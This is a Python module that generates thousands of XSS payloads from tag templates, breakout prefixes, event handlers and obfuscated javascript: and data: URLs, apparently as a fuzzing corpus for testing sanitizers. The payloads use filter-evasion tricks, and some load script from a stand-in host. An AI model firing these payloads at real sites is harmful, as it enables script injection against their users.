"""Thousands of ways to smuggle a script, made from their parts: where one stands, how the tag is spelt,
what would run, and how it is disguised.
"""

from collections.abc import Iterator
from itertools import product

_BEFORE = (
    "", '">', "'>", "-->", "]]>", "</title>", "</textarea>", "</style>", "</script>", "\x00",
    "<!--", "<![CDATA[", "&lt;", "\u202e", "<p title='",
)  # fmt: skip
_TAGS = (
    "<script>{js}</script>",
    "<SCRIPT SRC={url}></SCRIPT>",
    "<scr\x00ipt>{js}</scr\x00ipt>",
    "<img src=x {on}={js}>",
    "<img src={url}>",
    "<svg {on}={js}>",
    "<svg><script>{js}</script></svg>",
    "<math><a xlink:href={url}>x</a></math>",
    "<a href={url}>x</a>",
    "<a href='{url}' {on}='{js}'>x</a>",
    "<iframe src={url}></iframe>",
    "<iframe srcdoc='<script>{js}</script>'></iframe>",
    "<object data={url}></object>",
    "<embed src={url}>",
    "<form action={url}><button formaction={url}>x</button></form>",
    "<body {on}={js}>",
    "<video><source {on}={js}></video>",
    "<details open {on}={js}>",
    "<base href={url}>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<style>@import '{url}';</style>",
    "<p style='background:url({url})'>x</p>",
    "<noscript><p title='</noscript><img src=x {on}={js}>'></noscript>",
    "<template><script>{js}</script></template>",
    "<table background={url}><td>x</td></table>",
)
_HANDLERS = ("onerror", "onload", "ONCLICK", "on\x00error", "onpointerenter", "/onfocus")
_ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "java\nscript:alert(1)",
    "&#106;avascript:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "vbscript:x",
    "data:text/html,<script>alert(1)</script>",
    "//evil.test/x.js",
    "javascript&colon;alert(1)",
    "\u3000javascript:alert(1)",
    "blob:https://evil.test/1",
    "filesystem:https://evil.test/1",
)


def payloads() -> Iterator[str]:
    """All of them, each once, in the same order every time."""
    made = (
        before + tag.format(on=handler, js="alert(1)", url=address)
        for before, tag, handler, address in product(_BEFORE, _TAGS, _HANDLERS, _ADDRESSES)
    )
    yield from dict.fromkeys(made)
